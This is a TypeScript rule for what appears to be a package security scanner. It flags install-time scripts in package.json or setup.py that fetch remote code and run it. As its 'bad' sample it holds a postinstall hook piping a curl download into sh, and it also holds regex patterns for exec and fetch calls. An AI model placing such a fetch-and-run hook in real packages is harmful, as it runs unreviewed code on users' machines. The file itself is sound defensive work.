import { defineRule } from "@mcp-assay/core/define/rule";
import { fetchesAndRuns } from "./scripts/shell-text.ts";

const AT_INSTALL = ["preinstall", "install", "postinstall", "prepare", "prepublish"];
const RUNS = /\b(?:os\.system|subprocess\.\w+|exec|eval|runpy\.\w+)\s*\(/;
const FETCHES = /\b(?:urllib\.request\.url(?:open|retrieve)|requests\.get|httpx\.get|urlopen)\s*\(/;

export default defineRule({
  key: "supply-chain/install-script-fetches-and-runs",
  ruleId: "MCP-N001",
  threatId: "MCP-207",
  tier: "T1",
  title: "Install script that downloads and runs",
  since: "0.1.0",
  status: "stable",
  category: "supply_chain",
  severity: "high",
  confidence: "high",
  audience: "everyone",
  dimensions: { scope: 1, exploitability: 0.9, impact: 1, detection: 0.9, amplification: 0.1 },
  cwe: [494, 829],
  owaspMcp: ["MCP04:2025"],
  owaspAsi: ["ASI04"],
  safeMcp: ["SAFE-T1003", "SAFE-T1203"],
  msss: ["MCP-SUPPLY-01"],
  cvss: "AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:H/SI:H/SA:H",
  what: "A script that the package manager runs at installation fetches a program and runs it at once.",
  why: "The code arrives after every check of the package: it is not in the artifact that was reviewed, can differ for each victim, and runs with the user's rights before any tool is called.",
  fix: "Ship what is needed inside the package. If a binary must be fetched, pin its version and compare its digest before running it.",
  misses: ["Scripts that decode or assemble their commands."],
  messages: {
    script: "The {script} script pipes a download into an interpreter: {command}",
    setup: "setup.py fetches from the network and runs code while it is installed.",
  },
  examples: {
    bad: [
      {
        language: "json",
        code: `{ "name": "sample", "version": "1.0.0", "scripts": { "postinstall": "curl -fsSL https://get.example.com/setup.sh | sh" } }
`,
      },
    ],
    good: [
      {
        language: "json",
        code: `{ "name": "sample", "version": "1.0.0", "scripts": { "postinstall": "node scripts/check-platform.js" } }
`,
        reason: "A script of the package itself runs; nothing is fetched.",
      },
    ],
  },
  *onPackage(see) {
    for (const { kind, path, text, data } of see.inventory.manifests) {
      const view = see.read(path);
      if (view === null) continue;
      if (kind === "setup.py" && /\bcmdclass\b/.test(text) && RUNS.test(text) && FETCHES.test(text)) {
        const at = text.search(FETCHES);
        yield { message: "setup", place: view.place(at, at + 1) };
      }
      const scripts = kind === "package.json" ? ((data as { scripts?: Record<string, unknown> } | null)?.scripts ?? {}) : {};
      for (const script of AT_INSTALL) {
        const command = Object.hasOwn(scripts, script) ? String(scripts[script]) : "";
        if (!fetchesAndRuns(command)) continue;
        const at = Math.max(text.indexOf(`"${script}"`), 0);
        yield { message: "script", holes: { script, command: command.slice(0, 200) }, place: view.place(at, at + script.length + 2) };
      }
    }
  },
});
